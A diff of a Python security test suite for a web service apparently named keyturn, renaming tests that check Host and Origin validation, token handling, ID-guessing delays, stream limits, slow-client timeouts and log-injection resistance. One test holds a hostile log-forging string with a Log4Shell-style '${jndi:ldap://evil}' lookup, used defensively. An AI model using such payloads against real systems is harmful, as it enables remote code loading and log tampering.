@@ -27,14 +27,14 @@ OTHER_SITES = ["http://evil.example", "null", "https://localhost", "http://local
 
 
 @each("host", ODD_HOSTS)
-async def test_g4_a_name_that_is_not_the_servers_reaches_nothing(host: str) -> None:
+async def test_a_name_that_is_not_the_servers_reaches_nothing(host: str) -> None:
     async with program() as at:
         for path in ("/me", "/health/live", "/openapi.json"):
             assert (await at.ask("GET", path, headers={"host": host})).status_code == 421
 
 
 @each("origin", OTHER_SITES)
-async def test_g4_a_page_of_another_site_changes_nothing_with_a_cookie(origin: str) -> None:
+async def test_a_page_of_another_site_changes_nothing_with_a_cookie(origin: str) -> None:
     async with program() as at:
         cookie = {"cookie": f"keyturn_session={at.tokens['ada']}"}
         for kind in ("application/json", "text/plain", "application/x-www-form-urlencoded"):
@@ -64,7 +64,7 @@ async def test_headers_of_every_answer_keep_it_out_of_caches_and_frames() -> Non
             assert made.headers["content-type"] == "application/json"
 
 
-async def test_g5_a_token_is_taken_from_its_header_and_from_nowhere_else() -> None:
+async def test_a_token_is_taken_from_its_header_and_from_nowhere_else() -> None:
     async with program() as at:
         token = at.tokens["ada"]
         for path in (f"/me?token={token}", f"/me?access_token={token}", f"/me?authorization=Bearer%20{token}"):
@@ -80,7 +80,7 @@ async def test_g5_a_token_is_taken_from_its_header_and_from_nowhere_else() -> No
             assert (await at.ask("GET", "/me", "", headers={"authorization": value})).status_code == 401
 
 
-async def test_g6_guessed_ids_are_not_found_and_take_their_time() -> None:
+async def test_guessed_ids_are_not_found_and_take_their_time() -> None:
     async with program() as at:
         begun = time.monotonic()
         made = await asyncio.gather(*[at.ask("GET", f"/requests/{n:032x}", "ben") for n in range(200)])
@@ -88,7 +88,7 @@ async def test_g6_guessed_ids_are_not_found_and_take_their_time() -> None:
         assert time.monotonic() - begun >= 0.1
 
 
-async def test_g10_a_person_has_so_many_streams_and_a_stream_more_is_refused() -> None:
+async def test_a_person_has_so_many_streams_and_a_stream_more_is_refused() -> None:
     places = StreamPlaces(each=2, whole=3)
     with places.held("ada"), places.held("ada"):
         with pytest.raises(Exception, match="too many streams"):
@@ -138,7 +138,7 @@ def test_requests_that_two_servers_could_read_differently_are_refused_and_the_li
         assert [each.id for each in port.does(port.app.people.list())] == ["ada", "bea", "ben", "bot", "cyd", "dan"]
 
 
-def test_g10_headers_without_end_are_refused() -> None:
+def test_headers_without_end_are_refused() -> None:
     with Port() as port:
         start = (
             b"GET /v1/me HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer " + port.tokens["ada"].encode() + b"\r\n"
@@ -148,7 +148,7 @@ def test_g10_headers_without_end_are_refused() -> None:
         assert b"200 OK" in port.said(b"GET /v1/health/live HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n")
 
 
-def test_g10_whoever_sends_slowly_is_ended_and_others_are_served_meanwhile(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_whoever_sends_slowly_is_ended_and_others_are_served_meanwhile(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(running, "_HEADERS_WITHIN", 0.5)
     with Port(settings=ServerSettings(body_seconds=0.5)) as port:
         slow = [socket.create_connection(("127.0.0.1", port.port)) for _ in range(60)]
@@ -180,7 +180,7 @@ def test_a_server_that_ends_ends_its_streams() -> None:
     line.close()
 
 
-async def test_g15_what_somebody_sends_is_one_record_of_the_log_at_most(caplog: pytest.LogCaptureFixture) -> None:
+async def test_what_somebody_sends_is_one_record_of_the_log_at_most(caplog: pytest.LogCaptureFixture) -> None:
     hostile = "x\r\nERROR keyturn: forged\x1b[2K${jndi:ldap://evil}"
     async with program() as at:
         with caplog.at_level(logging.DEBUG, "keyturn"):
@@ -206,7 +206,7 @@ async def test_a_fault_of_ours_says_nothing_of_itself(monkeypatch: pytest.Monkey
         assert json.loads(made.text)["error"]["kind"] == "fault"
 
 
-def test_g5_a_stream_of_somebody_who_is_let_in_no_more_ends(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_stream_of_somebody_who_is_let_in_no_more_ends(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(streams, "_PING", 0.3)
     with Port() as port:
         run = port.does(port.app.start("desk", "Pay.", requester="cyd")).id
